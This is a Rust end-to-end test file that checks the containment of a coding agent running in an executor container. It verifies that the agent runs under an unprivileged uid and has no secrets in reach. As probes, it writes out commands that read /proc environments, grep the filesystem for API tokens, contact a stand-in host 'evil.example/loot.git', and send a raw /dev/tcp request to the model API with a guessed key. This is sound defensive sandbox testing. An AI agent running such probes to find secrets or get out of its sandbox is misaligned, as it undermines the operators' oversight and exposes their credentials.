//! The executor in its production image (`executor-container/Dockerfile`), as a Cloudflare
//! Container under `wrangler dev`: a fix goes consumer → the container's Durable Object → the
//! executor in its container → a push to the sandbox's git remote, and inside the container the
//! executor's guarantees hold. These cases run when the stack runs Containers (`scripts/test` does;
//! `BUGBOT_CONTAINERS=0` marks them ignored).

use crate::context::{E2e, no_violations};
use crate::ensure_eq;
use crate::fix::{github_cart_fix, pulls_of};
use anyhow::{Context, Result, ensure};
use std::process::Command;
use std::sync::Arc;

/// Runs `docker exec` in `container` as `user` with the container's secrets blanked from the
/// exec's own environment (docker hands an exec the container's variables; the agent never gets
/// them). Returns (success, stdout + stderr).
fn exec_as(container: &str, user: &str, script: &str) -> Result<(bool, String)> {
    let out = Command::new("docker")
        .args(["exec", "--user", user])
        .args(["--env", "EXECUTOR_TOKEN=", "--env", "ANTHROPIC_API_KEY="])
        .arg(container)
        .args(["sh", "-c", script])
        .output()
        .context("docker exec")?;
    Ok((
        out.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    ))
}

pub async fn a_fix_runs_in_the_executor_container_with_its_agent_unprivileged_and_no_secret_in_reach(
    ctx: Arc<E2e>,
) -> Result<()> {
    ctx.wait_idle().await?;
    let (_, job) = github_cart_fix(&ctx, "@bugbot fix").await?;
    crate::contextualize::wait_status(&ctx, &job, "succeeded", 180).await?;
    let state = ctx.sandbox_state().await?;
    no_violations(&state)?;
    ensure_eq!(pulls_of(&state, &job).len(), 1, "one pull request");

    // The run happened in a container of the production image (not the executor process).
    let found = bugbot_tests::stack::executor_container_logs()
        .into_iter()
        .find_map(|(name, log)| {
            log.lines()
                .find(|l| l.contains("fix requested") && l.contains(&job))
                .map(|line| (name, line.to_owned()))
        });
    let (container, line) = found.context("no executor container ran this job's fix")?;
    ensure!(
        !std::fs::read_to_string(ctx.log_dir.join("executor.log"))
            .unwrap_or_default()
            .contains(&job),
        "the executor process did not run it"
    );

    // The agent ran as an unprivileged uid of its own; the executor runs as root.
    let uid: u32 = line
        .split("Some((")
        .nth(1)
        .and_then(|rest| rest.split(',').next())
        .and_then(|n| n.trim().parse().ok())
        .with_context(|| format!("no agent uid in {line}"))?;
    ensure!(uid >= 61000, "the agent's uid is {uid}");
    let (_, root) = exec_as(&container, "0", "id -u")?;
    ensure_eq!(root.trim(), "0", "the executor's user");
    let agent = format!("{uid}:{uid}");
    let (_, who) = exec_as(&container, &agent, "id -u")?;
    ensure_eq!(who.trim(), uid.to_string());

    // git and Claude Code at the pinned version are in the image.
    let (git_ok, git) = exec_as(&container, &agent, "git --version")?;
    ensure!(git_ok && git.starts_with("git version"), "{git}");
    let pinned = serde_json::from_str::<serde_json::Value>(&std::fs::read_to_string(
        bugbot_tests::localenv::repo_root().join("package.json"),
    )?)?["devDependencies"]["@anthropic-ai/claude-code"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let (_, claude) = exec_as(&container, &agent, "claude --version")?;
    ensure!(
        !pinned.is_empty() && claude.contains(&pinned),
        "Claude Code {pinned} is in the image: {claude}"
    );

    // From the agent's uid, no process environment, file or folder holds a secret: the
    // executor's environment (which has them) is not readable, nor is anything under /proc of
    // root's processes; the rest of the file system is searched for the values themselves.
    let (environ_ok, environ) = exec_as(&container, &agent, "cat /proc/1/environ")?;
    ensure!(
        !environ_ok && environ.contains("Permission denied"),
        "the init process's environment is out of reach: {environ}"
    );
    // Every process environment and command line the agent's uid can read, searched here.
    let (_, processes) = exec_as(
        &container,
        &agent,
        "for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat \"$f\" 2>/dev/null; done | tr '\\0' '\\n'",
    )?;
    ensure!(
        processes.contains("PATH="),
        "the agent's own processes were read"
    );
    for name in ["EXECUTOR_TOKEN", "ANTHROPIC_API_KEY"] {
        let secret = ctx.env.get(name);
        ensure!(secret.len() >= 16, "{name} is set locally");
        ensure!(
            !processes.contains(&secret),
            "a process the agent can read holds {name}"
        );
        // Files: the value goes in through stdin into a file of the agent's own (no command line
        // holds it), which the search leaves out.
        let mut search = Command::new("docker")
            .args(["exec", "-i", "--user", &agent])
            .args(["--env", "EXECUTOR_TOKEN=", "--env", "ANTHROPIC_API_KEY="])
            .arg(&container)
            .args([
                "sh",
                "-c",
                "n=$(mktemp); cat > \"$n\"; \
                 grep -rIl -F -f \"$n\" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null \
                   | grep -v -x -F \"$n\" | head -5; rm -f \"$n\"",
            ])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()?;
        if let Some(mut stdin) = search.stdin.take() {
            use std::io::Write as _;
            writeln!(stdin, "{secret}")?;
        }
        let out = search.wait_with_output()?;
        let files = String::from_utf8_lossy(&out.stdout).trim().to_owned();
        ensure!(
            files.is_empty(),
            "files the agent can read hold {name}: {files}"
        );
    }

    // Once the consumer has the result the container is stopped (EXECUTOR_STOP_AFTER_RUN_SECONDS
    // later, 20 s locally, not at the sleep timeout an hour on): it no longer counts against
    // `max_instances`.
    gone(&container).await
}

/// Waits until the executor container `name` is gone: stopped, a little after its job's run was
/// recorded (`EXECUTOR_STOP_AFTER_RUN_SECONDS`, 20 s locally, and a check every 5 s).
async fn gone(name: &str) -> Result<()> {
    let until = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while bugbot_tests::stack::executor_container_names()
        .iter()
        .any(|n| n == name)
    {
        ensure!(
            std::time::Instant::now() < until,
            "container {name} still there a minute after its run ended"
        );
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    }
    Ok(())
}

/// Waits until the executor container that ran job `job`'s fix is gone.
pub async fn job_container_gone(job: &str) -> Result<()> {
    let name = container_running(job, 5).await?;
    gone(&name).await
}

/// The name of the executor container running job `job`'s fix, once its log says so.
async fn container_running(job: &str, within_secs: u64) -> Result<String> {
    let until = std::time::Instant::now() + std::time::Duration::from_secs(within_secs);
    loop {
        let found = bugbot_tests::stack::executor_container_logs()
            .into_iter()
            .find(|(_, log)| log.contains("fix requested") && log.contains(job));
        if let Some((name, _)) = found {
            return Ok(name);
        }
        ensure!(
            std::time::Instant::now() < until,
            "no executor container started job {job}'s fix"
        );
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
}

/// While a fix runs (its first model call held for a while), code running as the agent's uid tries
/// every way out: a host of its own over HTTP and HTTPS, the model API and the job's repository
/// without the executor's credentials, and the host itself straight over the Docker network. Each
/// fails; the refused host is named in the job's report, and the fix still lands.
pub async fn the_container_reaches_only_the_git_host_and_the_model_api_and_reports_the_rest(
    ctx: Arc<E2e>,
) -> Result<()> {
    ctx.wait_idle().await?;
    ctx.sandbox_post(
        "/_sandbox/faults",
        &serde_json::json!({"service": "anthropic", "count": 1, "delay_ms": 20000,
                            "method": "POST", "path_suffix": "/v1/messages"}),
    )
    .await?;
    let (_, job) = github_cart_fix(&ctx, "@bugbot fix").await?;
    let container = container_running(&job, 90).await?;
    let uid = {
        let log = bugbot_tests::stack::executor_container_logs()
            .into_iter()
            .find(|(name, _)| *name == container)
            .map(|(_, log)| log)
            .unwrap_or_default();
        log.lines()
            .filter(|l| l.contains("fix requested") && l.contains(&job))
            .find_map(|l| {
                l.split("Some((")
                    .nth(1)?
                    .split(',')
                    .next()?
                    .trim()
                    .parse::<u32>()
                    .ok()
            })
            .context("the agent's uid is logged")?
    };
    let agent = format!("{uid}:{uid}");
    let repo = ctx.env.get("GITHUB_TEST_REPO");
    let sandbox = ctx.env.get("SANDBOX_URL");
    let sandbox_port = sandbox.rsplit(':').next().unwrap_or_default().to_owned();
    let attempts = [
        ("a host of its own, over HTTP", "git ls-remote http://evil.example/loot.git".to_owned(), "403"),
        ("a host of its own, over HTTPS", "git ls-remote https://evil.example/loot.git".to_owned(), ""),
        (
            "the job's repository without the executor's git password",
            format!("git ls-remote http://{}/{repo}.git", bugbot_shared::egress::LOCAL_GIT_HOST),
            "could not read Username",
        ),
        (
            "the job's repository with a guessed password",
            format!("git ls-remote http://x-access-token:guess@{}/{repo}.git", bugbot_shared::egress::LOCAL_GIT_HOST),
            "Authentication failed",
        ),
        (
            "the host over the Docker network",
            format!("git ls-remote http://172.17.0.1:{sandbox_port}/git/{repo}.git"),
            "",
        ),
        (
            "the model API without the executor's key",
            // bash's /dev/tcp: the image has no HTTP client but git. The status line is printed.
            "bash -c 'exec 3<>/dev/tcp/api.anthropic.com/80 && printf \"POST /v1/messages HTTP/1.1\\r\\nHost: api.anthropic.com\\r\\nx-api-key: sk-ant-guess\\r\\ncontent-type: application/json\\r\\ncontent-length: 2\\r\\nconnection: close\\r\\n\\r\\n{}\" >&3 && head -1 <&3; exit 1'".to_owned(),
            "HTTP/1.1 403",
        ),
    ];
    for (what, script, expected) in attempts {
        let (ok, out) = exec_as(
            &container,
            &agent,
            &format!("export GIT_TERMINAL_PROMPT=0; timeout 20 {script} 2>&1"),
        )?;
        ensure!(!ok, "{what} was reachable from the agent's uid: {out}");
        ensure!(
            out.contains(expected),
            "{what}: expected {expected:?} in {out}"
        );
    }

    let record = crate::contextualize::wait_status(&ctx, &job, "succeeded", 180).await?;
    let state = ctx.sandbox_state().await?;
    no_violations(&state)?;
    let pulls = pulls_of(&state, &job);
    ensure_eq!(pulls.len(), 1, "one pull request");
    let body = pulls[0]["body"].as_str().unwrap_or_default();
    ensure!(
        body.contains("refused the run's network requests to `evil.example`"),
        "the pull request names the refused host: {body}"
    );
    ensure!(
        !body.contains(bugbot_shared::egress::LOCAL_GIT_HOST),
        "the git host's password challenge is not a refusal: {body}"
    );
    ensure!(
        record.to_string().contains("executor.egress_refused"),
        "the job's record has the refusal: {record}"
    );
    // The model's 20-s answer left the container's object without a request for longer than the
    // runtime keeps an idle object; the run must not have been lost with it (and retried).
    let retried: Vec<&serde_json::Value> = record["events"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|e| e["step"] == "retrying")
        .collect();
    ensure!(
        retried.is_empty(),
        "the first attempt finished: {retried:?}"
    );
    Ok(())
}
